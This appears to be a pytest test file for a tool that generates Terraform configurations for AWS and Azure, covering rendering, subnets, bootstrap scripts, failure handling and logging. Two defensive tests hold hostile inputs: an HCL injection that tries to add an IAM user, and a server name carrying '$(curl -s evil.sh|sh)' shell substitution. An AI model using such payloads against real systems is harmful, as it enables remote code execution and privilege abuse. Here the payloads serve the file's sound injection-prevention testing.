"""Unit tests for the Config Synthesizer, including end-to-end scenarios."""

import base64
import re
from unittest.mock import Mock

import pytest
from structlog.testing import capture_logs

from tfportal.interfaces.template import (
    RenderError,
    TemplateVariant,
    UnknownVariantError,
)
from tfportal.strategies.template_engine.synthesizer import ConfigSynthesizer


# =============================================================================
# End-to-End Scenarios
# =============================================================================


class TestScenarios:
    """Submissions run through normalize, select, render and write."""

    def test_single_instance_auto_subnet(self, synthesizer, settings, base_form):
        """Scenario 1: default region and default CIDR on a single instance."""
        result = synthesizer.synthesize(base_form)
        text = settings.output_path.read_text(encoding="utf-8")

        assert result.output_path == settings.output_path
        assert text == result.document.text
        assert text.count('resource "aws_instance"') == 1
        assert 'Name    = "web1"' in text
        assert text.count('resource "aws_subnet"') == 1
        assert 'cidr_block        = "172.31.250.0/24"' in text
        assert 'region = "ap-southeast-1"' in text
        assert 'availability_zone = "ap-southeast-1a"' in text
        assert 'instance_type = "t3.micro"' in text
        assert 'name        = "sg-web"' in text
        assert 'bucket = "terraform-state-test"' in text

    def test_single_instance_manual_subnet(self, synthesizer, settings, base_form):
        """Scenario 2: manual CIDR is used exactly."""
        base_form.update(subnetMode="manual", customCidr="10.0.5.0/24")

        result = synthesizer.synthesize(base_form)
        text = settings.output_path.read_text(encoding="utf-8")

        assert result.params.subnet_cidr == "10.0.5.0/24"
        assert 'cidr_block        = "10.0.5.0/24"' in text
        assert "172.31.250.0/24" not in text

    def test_ha_cluster_with_bootstrap(self, synthesizer, settings):
        """Scenario 3: capacity is a bare literal and the bootstrap script is present."""
        synthesizer.synthesize(
            {"provider": "aws", "topology": "ha-cluster", "capacity": "3", "installNginx": "yes"}
        )
        text = settings.output_path.read_text(encoding="utf-8")

        assert 'resource "aws_autoscaling_group" "web"' in text
        assert re.search(r"^\s*desired_capacity\s*=\s*3$", text, re.MULTILINE)
        assert re.search(r"^\s*min_size\s*=\s*3$", text, re.MULTILINE)
        assert re.search(r"^\s*max_size\s*=\s*6$", text, re.MULTILINE)
        assert '"3"' not in text
        assert "user_data = base64encode(<<-EOF" in text
        assert "apt-get install -y nginx" in text
        assert 'resource "aws_lb" "web"' in text

    def test_unsupported_provider_rejected(self, synthesizer, settings, base_form):
        """Scenario 4: an unknown provider is rejected and nothing is written."""
        base_form["provider"] = "gcp"

        with pytest.raises(UnknownVariantError):
            synthesizer.synthesize(base_form)

        assert not settings.output_path.exists()


# =============================================================================
# Property Tests
# =============================================================================


class TestSynthesisProperties:
    """Test suite for document-level properties."""

    @pytest.mark.parametrize(
        "provider,topology",
        [("aws", "single-instance"), ("aws", "ha-cluster"), ("azure", "single-instance")],
    )
    def test_bootstrap_absent_leaves_no_trace(self, synthesizer, base_form, provider, topology):
        base_form.update(provider=provider, topology=topology)

        _, document = synthesizer.render(base_form)

        assert "nginx" not in document.text
        assert "EOF" not in document.text
        assert "user_data" not in document.text
        assert "custom_data" not in document.text
        assert "{#" not in document.text

    @pytest.mark.parametrize(
        "provider,topology",
        [("aws", "single-instance"), ("aws", "ha-cluster"), ("azure", "single-instance")],
    )
    def test_bootstrap_present_is_resolved(self, synthesizer, base_form, provider, topology):
        base_form.update(provider=provider, topology=topology, installNginx="yes")

        _, document = synthesizer.render(base_form)

        encoded = base64.b64encode(b"web1").decode("ascii")
        assert f"echo '{encoded}' | base64 -d;" in document.text
        assert "{{" not in document.text

    @pytest.mark.parametrize(
        "provider,topology",
        [("aws", "single-instance"), ("aws", "ha-cluster"), ("azure", "single-instance")],
    )
    def test_one_backend_and_one_provider(self, synthesizer, base_form, provider, topology):
        base_form.update(provider=provider, topology=topology)

        _, document = synthesizer.render(base_form)

        assert len(re.findall(r'^\s*backend "', document.text, re.MULTILINE)) == 1
        assert len(re.findall(r'^provider "', document.text, re.MULTILINE)) == 1

    def test_render_is_deterministic(self, synthesizer, base_form):
        base_form["installNginx"] = "yes"

        assert synthesizer.render(base_form)[1].text == synthesizer.render(base_form)[1].text

    def test_azure_single_vm(self, synthesizer, base_form):
        base_form.update(provider="azure", instanceType="Standard_B1s")

        params, document = synthesizer.render(base_form)

        assert params.region == "southeastasia"
        assert 'resource "azurerm_linux_virtual_machine" "web_server"' in document.text
        assert 'size                  = "Standard_B1s"' in document.text
        assert 'address_prefixes     = ["172.31.250.0/24"]' in document.text
        assert 'location = "southeastasia"' in document.text

    def test_injection_attempt_stays_inside_string(self, synthesizer, base_form):
        base_form["sgName"] = 'sg"\n}\nresource "aws_iam_user" "x" {\n  name = "x'

        _, document = synthesizer.render(base_form)

        assert 'resource "aws_iam_user"' not in document.text
        assert len(re.findall(r"^resource ", document.text, re.MULTILINE)) == 3

    @pytest.mark.parametrize(
        "provider,topology",
        [("aws", "single-instance"), ("aws", "ha-cluster"), ("azure", "single-instance")],
    )
    def test_server_name_cannot_reach_bootstrap_shell(
        self, synthesizer, base_form, provider, topology
    ):
        """Test that shell syntax in the server name is carried only as base64."""
        name = "$(curl -s evil.sh|sh)`id`${HOME}"
        base_form.update(
            provider=provider, topology=topology, serverName=name, installNginx="yes"
        )

        _, document = synthesizer.render(base_form)
        script = document.text[document.text.index("<<-EOF") : document.text.index("  EOF")]

        assert "$(" not in script
        assert "`" not in script
        assert "${" not in script
        assert "curl -s evil.sh" not in script
        assert base64.b64encode(name.encode("utf-8")).decode("ascii") in script


# =============================================================================
# Failure Handling Tests
# =============================================================================


class TestSynthesisFailures:
    """Test suite for failure paths."""

    def test_render_error_writes_nothing(self, factory, settings, base_form):
        """Test that a template/record mismatch aborts before the file is opened."""
        registry = Mock()
        registry.select.return_value = TemplateVariant(
            provider="aws", topology="single-instance", body='name = "{{ missing_field }}"\n'
        )
        synthesizer = ConfigSynthesizer(
            normalizer=factory.get_normalizer(),
            registry=registry,
            renderer=factory.get_renderer(),
            writer=factory.get_writer(),
        )

        with pytest.raises(RenderError):
            synthesizer.synthesize(base_form)

        assert not settings.output_path.exists()

    def test_last_write_wins(self, synthesizer, settings, base_form):
        synthesizer.synthesize(base_form)
        base_form["serverName"] = "web2"
        synthesizer.synthesize(base_form)

        text = settings.output_path.read_text(encoding="utf-8")
        assert '"web2"' in text
        assert '"web1"' not in text


# =============================================================================
# Logging Tests
# =============================================================================


class TestSynthesisLogging:
    """Test suite for the structured outcome events."""

    def test_success_event(self, synthesizer, settings, base_form):
        with capture_logs() as events:
            synthesizer.synthesize(base_form)

        generated = [e for e in events if e["event"] == "Generated"]
        assert generated == [
            {
                "event": "Generated",
                "log_level": "info",
                "provider": "aws",
                "topology": "single-instance",
                "server": "web1",
                "sg": "sg-web",
                "subnet": "172.31.250.0/24",
                "output_path": str(settings.output_path),
            }
        ]

    def test_failure_event(self, synthesizer, base_form):
        base_form["provider"] = "gcp"

        with capture_logs() as events, pytest.raises(UnknownVariantError):
            synthesizer.synthesize(base_form)

        assert [(e["event"], e["error_code"]) for e in events] == [
            ("Synthesis failed", "UNKNOWN_VARIANT")
        ]
